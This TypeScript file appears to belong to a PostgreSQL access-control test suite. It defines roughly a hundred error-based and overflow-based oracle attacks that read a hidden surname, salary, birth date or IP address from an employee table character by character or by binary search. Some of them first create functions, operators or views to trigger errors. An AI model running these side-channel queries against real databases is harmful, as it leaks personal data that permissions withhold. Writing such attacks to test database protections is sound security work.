/** Whether a statement fails, or how many rows it gives, tells what a value is: in expressions that look harmless. */
import type { Attack } from '../attack.ts';

const CODE = (at: number) => `ascii(substr(nazwisko, ${at}, 1))`;
const CHAR = (at: number) => `substr(nazwisko, ${at}, 1)`;
const ROW = 'FROM rejestr.pracownicy WHERE id = 5';
const LETTERS = 'BCDFGHJKLMNPQRSTVWXZbcdfghjkmnpqrstvwxz';
const WIDTH = 11;

interface Setup {
  readonly first?: readonly string[];
  readonly since?: number;
}

/** It fails if and only if the code of a character is above `code`; or does not, and `otherwise` is set. */
const above = (
  id: string,
  sql: (at: number, code: number) => string,
  setup: Setup & { otherwise?: true } = {},
): Attack => ({
  id: `oracle.${id}`,
  infers: true,
  ...(setup.since === undefined ? {} : { since: setup.since }),
  ...(setup.first === undefined ? {} : { writes: true }),
  run: async (attacker) => {
    const wire = await attacker.connect();
    for (const one of setup.first ?? []) await wire.query(one);
    await attacker.bisect(WIDTH, async (at, code) => {
      const { errors } = await wire.query(sql(at, code));
      return errors.length > 0 !== (setup.otherwise === true);
    });
  },
});

/** It fails, or `succeeds`, for the right letter only. */
const right = (
  id: string,
  sql: (at: number, letter: string) => string,
  setup: Setup & { fails?: true } = {},
): Attack => ({
  id: `oracle.${id}`,
  infers: true,
  ...(setup.since === undefined ? {} : { since: setup.since }),
  ...(setup.first === undefined ? {} : { writes: true }),
  run: async (attacker) => {
    const wire = await attacker.connect();
    for (const one of setup.first ?? []) await wire.query(one);
    let text = '';
    for (let at = 1; at <= WIDTH; at++) {
      const found: string[] = [];
      for (const letter of LETTERS) {
        const { errors } = await wire.query(sql(at, letter));
        if (errors.length > 0 === (setup.fails === true)) found.push(letter);
        if (found.length > 1) break;
      }
      if (found.length !== 1) break;
      text += found[0];
    }
    attacker.found.push(text);
  },
});

/** A number between two bounds: it fails where the value is above. */
const number = (
  id: string,
  low: number,
  high: number,
  sql: (limit: number) => string,
  told: (value: number) => string,
  otherwise = false,
): Attack => ({
  id: `oracle.${id}`,
  infers: true,
  run: async (attacker) => {
    const wire = await attacker.connect();
    const all: string[] = [];
    for (let row = 1; row <= 4; row++) {
      let [least, most] = [low, high];
      while (least < most) {
        const middle = Math.floor((least + most) / 2);
        const failed = (await wire.query(sql(middle).replaceAll(':row', String(row)))).errors.length > 0;
        if (failed !== otherwise) least = middle + 1;
        else most = middle;
      }
      all.push(told(least));
    }
    attacker.found.push(all.join(' '));
  },
});
const asDate = (days: number) => new Date(Date.UTC(2000, 0, 1) + days * 86_400_000).toISOString().slice(0, 10);
const asNumber = (value: number) => String(value);

export const oracles: readonly Attack[] = [
  above('between', (at, code) => `SELECT ${CODE(at)} BETWEEN ${code + 1} AND 1 / (id - id) ${ROW}`),
  above(
    'between-text',
    (at, code) => `SELECT ${CHAR(at)} COLLATE "C" BETWEEN chr(${code + 1}) AND (1 / (id - id))::text ${ROW}`,
  ),
  right('in-list', (at, letter) => `SELECT ${CHAR(at)} IN ('${letter}', (1 / (id - id))::text) ${ROW}`),
  right('not-in-list', (at, letter) => `SELECT ${CHAR(at)} NOT IN ('${letter}', (1 / (id - id))::text) ${ROW}`),
  right('row-equality', (at, letter) => `SELECT ROW(${CHAR(at)}, 1) = ROW('${letter}', 1 / (id - id)) ${ROW}`, {
    fails: true,
  }),
  above('row-order', (at, code) => `SELECT (${CODE(at)} > ${code}, 1) = (true, 1 / (id - id)) ${ROW}`),
  right('row-less', (at, letter) => `SELECT ROW(${CHAR(at)}, 1) < ROW('${letter}', 1 / (id - id)) ${ROW}`, {
    fails: true,
  }),
  above('and-regexp', (at, code) => `SELECT ${CODE(at)} > ${code} AND dzial ~ '(' ${ROW}`),
  above(
    'or-date-trunc',
    (at, code) => `SELECT ${CODE(at)} <= ${code} OR date_trunc('abc', zatrudniony_od) > now() ${ROW}`,
  ),
  above(
    'and-to-tsquery',
    (at, code) => `SELECT ${CODE(at)} > ${code} AND to_tsvector(dzial) @@ (dzial || ' & (')::tsquery ${ROW}`,
  ),
  above('and-format', (at, code) => `SELECT ${CODE(at)} > ${code} AND format(dzial || '%') = '' ${ROW}`),
  above('and-repeat', (at, code) => `SELECT ${CODE(at)} > ${code} AND length(repeat(dzial, 999999999)) > 1 ${ROW}`),
  above(
    'and-subscript',
    (at, code) =>
      `SELECT ${CODE(at)} > ${code} AND id = ANY (ARRAY[ARRAY[1], ARRAY[1, id / pietro]]::int[]) ${ROW.replace('5', '4')}`,
  ),
  right(
    'coalesce-date-trunc',
    (at, letter) =>
      `SELECT coalesce(substring(${CHAR(at)} FROM '${letter}'), date_trunc('abc', zatrudniony_od)::text) ${ROW}`,
  ),
  right(
    'coalesce-encode',
    (at, letter) => `SELECT coalesce(substring(${CHAR(at)} FROM '${letter}'), encode(dzial::bytea, dzial)) ${ROW}`,
  ),
  right(
    'coalesce-format',
    (at, letter) => `SELECT coalesce(substring(${CHAR(at)} FROM '${letter}'), format(dzial || '%')) ${ROW}`,
  ),
  right('format', (at, letter) => `SELECT format(replace(${CHAR(at)}, '${letter}', '%')) ${ROW}`, { fails: true }),
  right('format-identifier', (at, letter) => `SELECT format('%I', substring(${CHAR(at)} FROM '${letter}')) ${ROW}`),
  right(
    'json-null-key',
    (at, letter) => `SELECT jsonb_build_object(substring(${CHAR(at)} FROM '${letter}'), 1) ${ROW}`,
  ),
  right(
    'json-null-key-agg',
    (at, letter) => `SELECT json_object_agg(substring(${CHAR(at)} FROM '${letter}'), 1) ${ROW}`,
  ),
  right(
    'array-dimensions',
    (at, letter) => `SELECT ARRAY[string_to_array(${CHAR(at)}, '${letter}'), ARRAY['a', 'b']] ${ROW}`,
  ),
  right(
    'array-agg-dimensions',
    (at, letter) =>
      `SELECT array_agg(a) FROM (SELECT string_to_array(${CHAR(at)}, '${letter}') ${ROW} UNION ALL SELECT ARRAY['a', 'b']) x (a)`,
  ),
  right(
    'array-concat-dimensions',
    (at, letter) => `SELECT ARRAY[ARRAY['a', 'b']] || string_to_array(${CHAR(at)}, '${letter}') ${ROW}`,
  ),
  right('regexp-operator', (at, letter) => `SELECT dzial ~ replace(${CHAR(at)}, '${letter}', '(') ${ROW}`, {
    fails: true,
  }),
  right('like-operator', (at, letter) => `SELECT dzial LIKE replace(${CHAR(at)}, '${letter}', '${'_'}\\') ${ROW}`, {
    fails: true,
  }),
  right('similar-operator', (at, letter) => `SELECT dzial SIMILAR TO replace(${CHAR(at)}, '${letter}', '(') ${ROW}`, {
    fails: true,
  }),
  right(
    'time-zone',
    (at, letter) => `SELECT timezone(replace(${CHAR(at)} || 'qq', '${letter}qq', 'UTC'), now()) ${ROW}`,
  ),
  right(
    'at-time-zone',
    (at, letter) => `SELECT now() AT TIME ZONE replace(${CHAR(at)} || 'qq', '${letter}qq', 'UTC') ${ROW}`,
  ),
  right(
    'date-part',
    (at, letter) => `SELECT date_part(replace(${CHAR(at)} || 'qq', '${letter}qq', 'year'), now()) ${ROW}`,
  ),
  right(
    'date-trunc',
    (at, letter) => `SELECT date_trunc(replace(${CHAR(at)} || 'qq', '${letter}qq', 'year'), now()) ${ROW}`,
  ),
  right('encoding', (at, letter) => `SELECT convert_to('a', replace(${CHAR(at)}, '${letter}', 'UTF8')) ${ROW}`),
  right('encode-format', (at, letter) => `SELECT encode('a', replace(${CHAR(at)}, '${letter}', 'hex')) ${ROW}`),
  right(
    'normal-form',
    (at, letter) => `SELECT pg_catalog.normalize('a', replace(${CHAR(at)}, '${letter}', 'NFC')) ${ROW}`,
  ),
  right(
    'privilege',
    (at, letter) =>
      `SELECT has_table_privilege(replace(${CHAR(at)}, '${letter}', 'rejestr.oddzialy'), 'select') ${ROW}`,
  ),
  right(
    'privilege-word',
    (at, letter) => `SELECT has_schema_privilege('rejestr', replace(${CHAR(at)}, '${letter}', 'usage')) ${ROW}`,
  ),
  right(
    'json-path-double',
    (at, letter) => `SELECT jsonb_path_query(to_jsonb(replace(${CHAR(at)}, '${letter}', '1')), '$.double()') ${ROW}`,
  ),
  right(
    'json-path-strict',
    (at, letter) =>
      `SELECT jsonb_path_query_array(jsonb_build_object('a', string_to_array(${CHAR(at)}, '${letter}')), 'strict $.a[1]') ${ROW}`,
  ),
  right(
    'json-array-length',
    (at, letter) => `SELECT jsonb_array_length(to_jsonb(string_to_array(${CHAR(at)}, '${letter}')) -> 1) ${ROW}`,
    { fails: true },
  ),
  right(
    'json-elements',
    (at, letter) => `SELECT jsonb_array_elements(to_jsonb(string_to_array(${CHAR(at)}, '${letter}')) -> 1) ${ROW}`,
    { fails: true },
  ),
  above('ntile', (at, code) => `SELECT ntile(${CODE(at)} - ${code}) OVER () ${ROW}`, { otherwise: true }),
  above(
    'window-offset',
    (at, code) => `SELECT sum(1) OVER (ROWS (${code} - (SELECT ${CODE(at)} ${ROW})) PRECEDING) FROM rejestr.oddzialy`,
  ),
  above(
    'percentile',
    (at, code) =>
      `SELECT percentile_disc(CAST(c AS float8) / ${code}) WITHIN GROUP (ORDER BY 1) FROM (SELECT ${CODE(at)} AS c ${ROW}) x GROUP BY c`,
  ),
  above('substring-length', (at, code) => `SELECT substr('abc', 1, ${code} - ${CODE(at)}) ${ROW}`),
  above('int-range', (at, code) => `SELECT int4range(${CODE(at)}, ${code}) ${ROW}`),
  above('make-date', (at, code) => `SELECT make_date(2000, 1, ${CODE(at)} - ${code} + 31) ${ROW}`),
  above('sqrt', (at, code) => `SELECT sqrt(${code} - ${CODE(at)}) ${ROW}`),
  above('square-root', (at, code) => `SELECT |/ (${code} - ${CODE(at)}) ${ROW}`),
  above('oid', (at, code) => `SELECT (${code} - ${CODE(at)})::int8::oid ${ROW}`),
  above('single-byte', (at, code) => `SELECT (${code} - 128 - ${CODE(at)})::"char" ${ROW}`),
  above('power', (at, code) => `SELECT (0.0) ^ (${code} - ${CODE(at)}) ${ROW}`),
  above('modulo', (at, code) => `SELECT 5 % (${CODE(at)} / ${code + 1}) ${ROW}`, { otherwise: true }),
  above(
    'int-times-column',
    (at, code) => `SELECT ${CODE(at)} * (id * 0 + ${Math.floor(2_147_483_647 / (code + 1)) + 1}) ${ROW}`,
  ),
  above('int-plus-column', (at, code) => `SELECT ${CODE(at)} + (id * 0 + ${2_147_483_647 - code}) ${ROW}`),
  above('small-int', (at, code) => `SELECT (${CODE(at)} + ${32_767 - code})::smallint ${ROW}`),
  above(
    'date-plus',
    (at, code) => `SELECT zatrudniony_od - zatrudniony_od + date '5874897-12-31' + (${CODE(at)} - ${code}) ${ROW}`,
  ),
  above(
    'interval-plus',
    (at, code) => `SELECT timestamp '294276-12-31' + make_interval(days => ${CODE(at)} - ${code}) ${ROW}`,
  ),
  above('inet-plus', (at, code) => `SELECT inet '255.255.255.255' + (${CODE(at)} - ${code}) ${ROW}`),
  above('array-slice', (at, code) => `SELECT array_fill(1, ARRAY[${code} - ${CODE(at)}]) ${ROW}`),
  above('set-bit', (at, code) => `SELECT get_bit(B'1', (${CODE(at)} / ${code + 1})) ${ROW}`),
  above('get-byte', (at, code) => `SELECT get_byte('\\x00', ${CODE(at)} / ${code + 1}) ${ROW}`),
  above('chr', (at, code) => `SELECT chr(${code} - ${CODE(at)} + 1) ${ROW}`),
  above('generate-step', (at, code) => `SELECT generate_series(1, 2, ${CODE(at)} / ${code + 1}) ${ROW}`, {
    otherwise: true,
  }),
  above(
    'scalar-rows',
    (at, code) => `SELECT (SELECT 1 FROM generate_series(1, 2) g WHERE g <= 1 + ${CODE(at)} / ${code + 1}) ${ROW}`,
  ),
  above(
    'scalar-unnest',
    (at, code) => `SELECT (SELECT u FROM unnest(array_fill(1, ARRAY[1 + ${CODE(at)} / ${code + 1}])) u) ${ROW}`,
  ),
  right(
    'scalar-split',
    (at, letter) => `SELECT (SELECT u FROM unnest(string_to_array(${CHAR(at)}, '${letter}')) u) ${ROW}`,
    { fails: true },
  ),
  right('scalar-union', (at, letter) => `SELECT (SELECT ${CHAR(at)} UNION SELECT '${letter}') ${ROW}`),
  right(
    'scalar-distinct',
    (at, letter) => `SELECT (SELECT DISTINCT x FROM (VALUES (${CHAR(at)}), ('${letter}')) v (x)) ${ROW}`,
  ),
  right(
    'scalar-intersect',
    (at, letter) => `SELECT 1 / (SELECT count(*) FROM (SELECT ${CHAR(at)} ${ROW} INTERSECT SELECT '${letter}') x)`,
  ),
  above('limit-negative', (at, code) => `SELECT (SELECT 1 LIMIT ${code} - (SELECT ${CODE(at)} ${ROW}))`),
  above(
    'offset-rows',
    (at, code) => `SELECT 1 / (SELECT count(*) FROM (SELECT 1 OFFSET (SELECT ${CODE(at)} / ${code + 1} ${ROW})) x)`,
  ),
  above(
    'tablesample',
    (at, code) => `SELECT count(*) FROM rejestr.oddzialy TABLESAMPLE SYSTEM ((SELECT ${code} - ${CODE(at)} ${ROW}))`,
  ),
  right('enum-cast', (at, letter) => `SELECT replace(${CHAR(at)}, '${letter}', 'a')::atk_en ${ROW}`, {
    first: [`CREATE TYPE atk_en AS ENUM ('a')`],
  }),
  right('ts-query', (at, letter) => `SELECT to_tsquery('simple', replace(${CHAR(at)}, '${letter}', '(')) ${ROW}`, {
    fails: true,
  }),
  right(
    'hstore-arrays',
    (at, letter) => `SELECT hstore(string_to_array(${CHAR(at)}, '${letter}'), ARRAY['a', 'b']) ${ROW}`,
  ),
  right('digest', (at, letter) => `SELECT digest('a', replace(${CHAR(at)}, '${letter}', 'md5')) ${ROW}`),
  right('crypt', (at, letter) => `SELECT crypt('a', replace(${CHAR(at)}, '${letter}', '$1$abcdefgh')) ${ROW}`, {
    first: [],
  }),
  right('regclass', (at, letter) => `SELECT to_regclass(replace(${CHAR(at)}, '${letter}', '')) ${ROW}`, {
    fails: true,
  }),
  right('xml-name', (at, letter) => `SELECT xpath(replace(${CHAR(at)}, '${letter}', '('), karta) ${ROW}`, {
    fails: true,
  }),
  right(
    'escape-character',
    (at, letter) => `SELECT dzial LIKE 'a' ESCAPE replace(${CHAR(at)}, '${letter}', 'ab') ${ROW}`,
    { fails: true },
  ),
  right('unicode', (at, letter) => `SELECT unistr(replace(${CHAR(at)}, '${letter}', '\\')) ${ROW}`, { fails: true }),
  right(
    'quantified',
    (at, letter) => `SELECT '${letter}' = ANY (string_to_array(${CHAR(at)}, NULL)) AND dzial ~ '(' ${ROW}`,
    { fails: true },
  ),
  right('case-in-aggregate', (at, letter) => `SELECT bool_or(${CHAR(at)} = '${letter}' AND dzial ~ '(') ${ROW}`, {
    fails: true,
  }),
  right(
    'returning',
    (at, letter) =>
      `UPDATE rejestr.pracownicy SET pietro = pietro WHERE id = 5 RETURNING ${CHAR(at)} = '${letter}' AND dzial ~ '('`,
    { fails: true },
  ),
  right('order-by', (at, letter) => `SELECT 1 ${ROW} ORDER BY ${CHAR(at)} = '${letter}' AND dzial ~ '('`, {
    fails: true,
  }),
  right('distinct-from', (at, letter) => `SELECT 1 / (${CHAR(at)} IS DISTINCT FROM '${letter}')::int ${ROW}`, {
    fails: true,
  }),
  right(
    'too-long',
    (at, letter) => `SELECT length(repeat(replace(${CHAR(at)}, '${letter}', repeat('x', 200000)), 10000)) ${ROW}`,
    { fails: true },
  ),
  right('is-true', (at, letter) => `SELECT (${CHAR(at)} = '${letter}') IS TRUE AND dzial ~ '(' ${ROW}`, {
    fails: true,
  }),
  number(
    'date-overflow',
    -30_000,
    10_000,
    (limit) => `SELECT data_urodzenia + ${2_145_031_948 - limit} FROM rejestr.pracownicy WHERE id = :row`,
    asDate,
  ),
  number(
    'salary-chain',
    1e8,
    2e8,
    (limit) =>
      `SELECT wynagrodzenie * 10 ${'+ 1000000 '.repeat((2_147_483_647 - limit * 10) / 1e6)} + ${(2_147_483_647 - limit * 10) % 1e6} FROM rejestr.pracownicy WHERE id = :row`,
    asNumber,
  ),
  number(
    'salary-product',
    1e8,
    2e8,
    (limit) => `SELECT 10 * wynagrodzenie + (2147483647 - 10 * ${limit}) FROM rejestr.pracownicy WHERE id = :row`,
    asNumber,
  ),
  number(
    'salary-and-column',
    1e8,
    2e8,
    (limit) =>
      `SELECT 10 * wynagrodzenie + (id - id + ${2_147_483_647 - 10 * limit}) FROM rejestr.pracownicy WHERE id = :row`,
    asNumber,
  ),
  number(
    'salary-and-own-table',
    1e8,
    2e8,
    (limit) =>
      `CREATE TEMP TABLE IF NOT EXISTS atk_n (n int); DELETE FROM atk_n; INSERT INTO atk_n VALUES (${2_147_483_647 - limit}); SELECT wynagrodzenie + n FROM rejestr.pracownicy, atk_n WHERE id = :row`,
    asNumber,
  ),
  number(
    'salary-real',
    1e8,
    2e8,
    (limit) =>
      `SELECT wynagrodzenie::float8 * (SELECT 1.7976931348623157e308 / ${limit}.5) FROM rejestr.pracownicy WHERE id = :row`,
    asNumber,
  ),
  number(
    'salary-small-divisor',
    1e8,
    2e8,
    (limit) =>
      `SELECT wynagrodzenie::float8 / ${limit}.5 / 1e-300 / 5.562684646268003e-9 FROM rejestr.pracownicy WHERE id = :row`,
    asNumber,
  ),
  number(
    'birth-timestamp',
    -30_000,
    10_000,
    (limit) =>
      `SELECT data_urodzenia::timestamp + interval '106751983 days' + interval '${-1 - limit} days' - interval '0' FROM rejestr.pracownicy WHERE id = :row`,
    asDate,
  ),
  right('null-row', (at, letter) => `SELECT 1 / (ROW(substring(${CHAR(at)} FROM '${letter}')) IS NULL)::int ${ROW}`, {
    fails: true,
  }),
  right(
    'null-row-guard',
    (at, letter) => `SELECT ROW(substring(${CHAR(at)} FROM '${letter}'), 1 / (id - id)) IS NULL ${ROW}`,
  ),
  right(
    'null-json',
    (at, letter) => `SELECT 1 / (to_jsonb(substring(${CHAR(at)} FROM '${letter}')) IS NULL)::int ${ROW}`,
    { fails: true },
  ),
  right(
    'null-array',
    (at, letter) =>
      `SELECT 1 / (array_cat(string_to_array(substring(${CHAR(at)} FROM '${letter}'), ','), NULL) IS NULL)::int ${ROW}`,
    { fails: true },
  ),
  right('null-count', (at, letter) => `SELECT 1 / count(to_jsonb(substring(${CHAR(at)} FROM '${letter}'))) ${ROW}`),
  right(
    'pulled-up',
    (at, letter) =>
      `SELECT ${CHAR(at)} = '${letter}' AND q.b FROM rejestr.pracownicy p, LATERAL (SELECT 1 / (p.id - p.id) > 0 AS b) q WHERE p.id = 5`,
    { fails: true },
  ),
  right(
    'pulled-up-view',
    (at, letter) =>
      `SELECT ${CHAR(at)} = '${letter}' AND v.b FROM rejestr.pracownicy p JOIN atk_pv v ON v.i = p.id WHERE p.id = 5`,
    { fails: true, first: [`CREATE VIEW atk_pv AS SELECT id AS i, 1 / (id - id) > 0 AS b FROM rejestr.wejscia`] },
  ),
  right(
    'overloaded',
    (at, letter) => `SELECT ${CHAR(at)} = '${letter}' AND isfinite(p.id) FROM rejestr.pracownicy p WHERE p.id = 5`,
    {
      fails: true,
      first: [
        `CREATE FUNCTION public.isfinite(i int) RETURNS boolean LANGUAGE sql IMMUTABLE AS 'SELECT 1 / (i - i) > 0'`,
      ],
    },
  ),
  right(
    'overloaded-operator',
    (at, letter) => `SELECT ${CHAR(at)} = '${letter}' AND p.id @> true FROM rejestr.pracownicy p WHERE p.id = 5`,
    {
      fails: true,
      first: [
        `CREATE FUNCTION atk_op(i int, b boolean) RETURNS boolean LANGUAGE sql AS 'SELECT 1 / (i - i) > 0'`,
        `CREATE OPERATOR @> (LEFTARG = int, RIGHTARG = boolean, FUNCTION = atk_op)`,
      ],
    },
  ),
  right(
    'unique-keys',
    (at, letter) =>
      `SELECT json_object_agg_unique(k, 1) FROM (SELECT ${CHAR(at)} AS k ${ROW} UNION ALL SELECT '${letter}') x`,
    { fails: true, since: 16 },
  ),
  number(
    'ip-overflow',
    0,
    4_294_967_295,
    (limit) => `SELECT ostatnie_ip + ${4_294_967_295 - limit} FROM rejestr.pracownicy WHERE id = :row`,
    (value) => [24, 16, 8, 0].map((shift) => Math.floor(value / 2 ** shift) % 256).join('.'),
  ),
];
